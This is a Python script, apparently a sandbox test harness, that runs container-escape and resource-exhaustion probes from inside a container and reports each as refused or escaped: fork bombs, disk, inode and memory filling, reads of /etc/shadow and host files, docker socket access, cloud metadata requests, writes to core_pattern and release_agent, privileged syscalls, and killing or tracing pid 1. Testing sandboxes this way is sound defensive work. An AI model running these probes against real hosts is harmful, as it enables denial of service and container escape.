"""Attacks from within a container: attack.py NAME [ARGUMENT...]. What the sandbox refuses is a line `refused WHAT`, what it
lets through a line `ESCAPED WHAT`."""

import ctypes
import errno
import mmap
import os
import resource
import signal
import socket
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)


def attempt(what, act):
    try:
        found = act()
    except OSError as error:
        print("refused", what, errno.errorcode.get(error.errno), flush=True)
    else:
        print("ESCAPED", what, repr(found)[:200], flush=True)


def call(number, *arguments):
    wide = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    if libc.syscall(ctypes.c_long(number), *wide) == -1:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))


def read(path):
    with open(path, "rb") as file:
        found = file.read(64)
    # A masked file is there and empty.
    if not found.strip():
        raise OSError(errno.ENODATA, "empty")
    return found


def listing(path):
    found = os.listdir(path)
    if not found:
        raise OSError(errno.ENODATA, "empty")
    return found


def write(path, text=b"x"):
    descriptor = os.open(path, os.O_WRONLY)
    try:
        os.write(descriptor, text)
    finally:
        os.close(descriptor)


def fork():
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    while True:
        try:
            os.fork()
        except OSError:
            pass


def disk():
    """Every directory that there is: those that take a file are filled."""
    block, total = b"\0" * (1 << 20), 0
    devices = set()
    for top, names, _ in os.walk("/"):
        names[:] = [n for n in names if os.path.join(top, n) not in ("/proc", "/sys")]
        path = os.path.join(top, ".fill")
        try:
            device = os.stat(top).st_dev
            if device in devices:
                continue
            file = open(path, "wb", buffering=0)
        except OSError:
            continue
        devices.add(device)
        written = 0
        with file:
            try:
                while written < 2 << 30:
                    written += file.write(block)
                print("ESCAPED", top, "has no bound", flush=True)
            except OSError as error:
                print("refused", top, errno.errorcode[error.errno], written >> 20, flush=True)
        os.unlink(path)
        total += written
    print("total", total >> 20)


def inodes():
    total = 0
    for top in ("/tmp", "/work", "/dev/shm", "/data", "/two", "/three"):
        try:
            for number in range(1_000_000):
                os.close(os.open(f"{top}/{number}", os.O_CREAT | os.O_WRONLY))
            print("ESCAPED", top, "has no bound")
        except OSError as error:
            print("refused", top, errno.errorcode[error.errno], number)
            total += number
    print("total", total)


def memory():
    hoard = []
    while True:
        hoard.append(b"x" * (1 << 20))


def child_out_of_memory(code):
    child = os.fork()
    if child == 0:
        # The kernel takes the largest; this makes sure of which that is.
        with open("/proc/self/oom_score_adj", "w") as file:
            file.write("1000")
        memory()
    _, status = os.waitpid(child, 0)
    print("child ended by", os.WTERMSIG(status) if os.WIFSIGNALED(status) else status)
    sys.exit(int(code))


def tmpfs():
    with open("/tmp/fill", "wb") as file:
        while True:
            file.write(b"x" * (1 << 20))


def deaf():
    for number in range(1, 32):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        time.sleep(1)


def daemon(marker):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in range(3):
                os.close(number)
            os.execvp("sleep", ["sleep", marker])
        os._exit(0)
    time.sleep(0.3)
    print("left a daemon")


def raw_bytes():
    os.write(1, b"\xff\xfe\x00text\x1b]0;owned\x07\x1b[2J\n")
    os.write(2, b"\x80")


def host(secret):
    """`secret` is a file on the host; links in the repository point at it."""
    print("uid", os.getuid())
    for path in (secret, "/app/link", "/app/up/etc/codering", "/proc/1/root" + secret, "/host" + secret, "../.." + secret):
        attempt("host file by " + path.replace(secret, "@"), lambda: read(path))
    for number in range(3, 30):
        attempt(f"descriptor {number}", lambda: read(f"/proc/self/fd/{number}/etc/hostname"))
    for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock"):
        peer = socket.socket(socket.AF_UNIX)
        attempt(path, lambda: peer.connect(path))
    for name in ("sda", "vda", "mem", "kmem", "kmsg", "port", "loop0", "fuse", "kvm", "vsock"):
        attempt("/dev/" + name, lambda: os.open("/dev/" + name, os.O_RDONLY))
    attempt("mknod", lambda: os.mknod("/tmp/disk", 0o600 | 0o060000, os.makedev(254, 0)))
    attempt("/etc/passwd", lambda: write("/etc/passwd"))
    attempt("/etc/resolv.conf", lambda: write("/etc/resolv.conf"))
    attempt("/etc/hosts", lambda: write("/etc/hosts"))
    attempt("hard link", lambda: os.link("/etc/shadow", "/tmp/shadow"))
    attempt("/etc/shadow", lambda: read("/etc/shadow"))


def hide(marker):
    for top in ("/tmp", "/work", "/dev/shm"):
        with open(f"{top}/{marker}", "w") as file:
            file.write(marker)
    time.sleep(4)
    # Anonymous System V memory of the same key, and an abstract socket, for `peek`.
    print("hidden")


def peek(marker):
    for top in ("/tmp", "/work", "/dev/shm", "/dev/mqueue"):
        attempt("another task's files in " + top, lambda: listing(top))
    own = {str(os.getpid()), "1"}
    others = [p for p in os.listdir("/proc") if p.isdigit() and p not in own]
    print("others", others)
    for process in others:
        with open(f"/proc/{process}/cmdline", "rb") as file:
            if f"hide {marker}".encode() in file.read().replace(b"\0", b" "):
                print("ESCAPED sees another task's process")


def network(gateway_port):
    for address in ("169.254.169.254:80", "1.1.1.1:53", "8.8.8.8:443", f"172.17.0.1:{gateway_port}", "172.17.0.2:80",
                    f"127.0.0.1:{gateway_port}", "127.0.0.1:5672"):
        name, port = address.split(":")
        attempt(address.replace(gateway_port, "PORT"), lambda: socket.create_connection((name, int(port)), 2))
    attempt("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("169.254.169.254", 53)))
    attempt("IPv6", lambda: socket.create_connection(("fd00:ec2::254", 80), 2))
    attempt("names", lambda: socket.getaddrinfo("example.org", 80))
    attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
    attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3))
    # The hypervisor's side channel knows no network namespace.
    attempt("vsock", lambda: socket.socket(40, socket.SOCK_STREAM))
    attempt("alg", lambda: socket.socket(38, socket.SOCK_SEQPACKET))
    attempt("bluetooth", lambda: socket.socket(31, socket.SOCK_RAW))
    print("interfaces", [name for _, name in socket.if_nameindex() if name == "lo" or name.startswith("eth")])


def kernel():
    for path in ("/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/proc/sys/vm/overcommit_memory", "/proc/irq/default_smp_affinity",
                 "/sys/kernel/mm/transparent_hugepage/enabled", "/sys/power/state", "/sys/kernel/uevent_helper",
                 "/sys/fs/cgroup/memory/memory.limit_in_bytes", "/sys/fs/cgroup/memory.max", "/sys/fs/cgroup/pids/pids.max",
                 "/sys/fs/cgroup/devices/devices.allow", "/sys/fs/cgroup/memory/release_agent"):
        attempt("write " + path, lambda: write(path, b"999"))
    # More readily killed for memory is its own affair, less readily is the host's.
    attempt("oom_score_adj", lambda: write("/proc/1/oom_score_adj", b"-900"))
    for path in ("/proc/kcore", "/proc/kmsg", "/proc/keys", "/proc/timer_list", "/proc/sched_debug", "/proc/interrupts", "/proc/config.gz",
                 "/sys/kernel/debug/tracing/trace", "/dev/kmsg"):
        attempt("read " + path, lambda: read(path))
    for path in ("/sys/firmware", "/proc/acpi", "/proc/scsi", "/sys/kernel/debug"):
        attempt("list " + path, lambda: listing(path))
    with open("/proc/self/cgroup") as file:
        print("ESCAPED the host's cgroups are seen" if "docker" in file.read() else "refused the host's cgroups")


def calls():
    buffer = ctypes.create_string_buffer(4096)
    for name, number, *arguments in (
        ("unshare user", 272, 0x10000000), ("unshare mount", 272, 0x20000), ("unshare net", 272, 0x40000000),
        ("setns", 308, 0, 0), ("clone with a namespace", 56, 0x10000000 | 17, 0, 0, 0, 0),
        ("mount", 165, b"none", b"/tmp", b"tmpfs", 0, 0), ("umount", 166, b"/tmp", 0), ("pivot_root", 155, b"/", b"/"),
        ("chroot", 161, b"/tmp"), ("open_tree", 428, -1, b"/", 0), ("fsopen", 430, b"tmpfs", 0), ("move_mount", 429, 0, 0, 0, 0, 0),
        ("keyctl", 250, 0, -3, 0), ("add_key", 248, b"user", b"x", b"y", 1, -3), ("request_key", 249, b"user", b"x", 0, -3),
        ("bpf", 321, 0, buffer, 64), ("perf_event_open", 298, buffer, 0, -1, -1, 0), ("io_uring_setup", 425, 4, buffer),
        ("userfaultfd", 323, 0), ("syslog", 103, 3, buffer, 100), ("kexec_load", 246, 0, 0, 0, 0),
        ("init_module", 175, buffer, 1, b""), ("finit_module", 313, 0, b"", 0), ("delete_module", 176, b"x", 0),
        ("settimeofday", 164, buffer, 0), ("clock_settime", 227, 0, buffer), ("sethostname", 170, b"x", 1),
        ("iopl", 172, 3), ("ioperm", 173, 0, 1, 1), ("swapon", 167, b"/x", 0), ("quotactl", 179, 0, 0, 0, 0), ("acct", 163, 0),
        ("open_by_handle_at", 304, -100, buffer, 0), ("name_to_handle_at", 303, -100, b"/", buffer, buffer, 0),
        ("setuid 0", 105, 0), ("setgid to the disks'", 106, 6), ("setgroups", 116, 1, buffer), ("capset", 126, buffer, buffer),
        ("personality", 135, 0x0400000), ("ptrace of a kernel thread", 101, 16, 2, 0, 0), ("mlockall", 151, 1),
        ("real time", 144, 0, 1, ctypes.create_string_buffer(b"\1\0\0\0")),
    ):
        attempt(name, lambda: call(number, *arguments))
    attempt("lock memory", lambda: call(149, ctypes.addressof(ctypes.c_char.from_buffer(mmap.mmap(-1, 1 << 20))), 1 << 20))
    attempt("raise a limit", lambda: resource.setrlimit(resource.RLIMIT_CORE, (1 << 20, 1 << 20)) or None if
            resource.getrlimit(resource.RLIMIT_CORE)[1] != 0 else (_ for _ in ()).throw(OSError(errno.EPERM, "")))
    with open("/proc/self/status") as file:
        print({k: v.strip() for k, _, v in (line.partition(":") for line in file)
               if k in ("CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp")})


def files():
    opened = []
    try:
        while len(opened) < 1_000_000:
            opened.append(os.open("/dev/null", os.O_RDONLY))
    except OSError as error:
        print("refused", errno.errorcode[error.errno], len(opened))


def line():
    block = b"x" * (1 << 16)
    for _ in range(48):
        os.write(1, block)


def signals():
    for number in (signal.SIGKILL, signal.SIGSTOP):
        os.kill(1, number)
    time.sleep(0.5)
    print("pid 1 is", "alive" if os.path.exists("/proc/1") else "gone")
    try:
        os.kill(-1, signal.SIGCONT)
    except OSError:
        pass


def trace():
    """Stops pid 1, so that nothing of the container ends by itself any more."""
    call(101, 16, 1, 0, 0)
    print("attached")


if __name__ == "__main__":
    globals()[sys.argv[1]](*sys.argv[2:])
